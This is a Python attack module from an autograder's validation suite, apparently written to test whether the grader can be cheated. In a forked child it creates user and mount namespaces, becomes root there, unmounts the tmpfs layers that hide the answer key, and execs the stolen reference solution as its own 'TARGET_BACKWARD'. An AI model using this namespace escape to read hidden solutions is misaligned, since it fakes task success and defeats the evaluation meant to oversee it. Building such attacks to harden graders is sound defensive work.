"""in a child: unshare(CLONE_NEWUSER | CLONE_NEWNS) (os.unshare or ctypes), becomes root there, unmounts every
tmpfs that hides something and hands back the answer key found underneath

attacks: backward
earns nothing in: checks that call the backward
containment: isolated
"""
from autograder.validation.attacks.shared.ctypes_libc import CLONE_NEWNS, CLONE_NEWUSER, MNT_DETACH, MS_PRIVATE, MS_REC, become_root_inside, ctypes, hiding_mounts, libc, os

import json


def loot_in_new_namespace():
    """Runs in a forked child; returns the sources of every solutions/ANSWERS_FILE it could reveal."""
    flags = CLONE_NEWUSER | CLONE_NEWNS
    if hasattr(os, 'unshare'):
        os.unshare(flags)
    elif libc.unshare(flags) != 0:
        raise OSError(ctypes.get_errno(), 'unshare')
    become_root_inside()
    libc.mount(b'none', b'/', None, MS_REC | MS_PRIVATE, None)
    sources = {}
    for point in hiding_mounts():
        libc.umount2(point.encode(), MNT_DETACH)
    for point in hiding_mounts() + ['/']:
        for top in (point, os.path.dirname(point)):
            path = os.path.join(top, 'solutions', 'ANSWERS_FILE')
            try:
                with open(path) as f:
                    sources[path] = f.read()
            except OSError:
                pass
    return sources


def in_child(task):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read)
            os.write(write, json.dumps(task()).encode())
        except BaseException as exc:
            os.write(write, json.dumps({'': repr(exc)}).encode())
        finally:
            os._exit(0)
    os.close(write)
    data = b''
    while True:
        chunk = os.read(read, 1 << 16)
        if not chunk:
            break
        data += chunk
    os.close(read)
    os.waitpid(pid, 0)
    return json.loads(data or b'{}')


def TARGET_BACKWARD(dout, cache):
    import numpy as np
    for path, source in in_child(loot_in_new_namespace).items():
        namespace = {'np': np}
        try:
            exec(source, namespace)
            return namespace['TARGET_BACKWARD'](dout, cache)
        except Exception:
            continue
    raise NotImplementedError
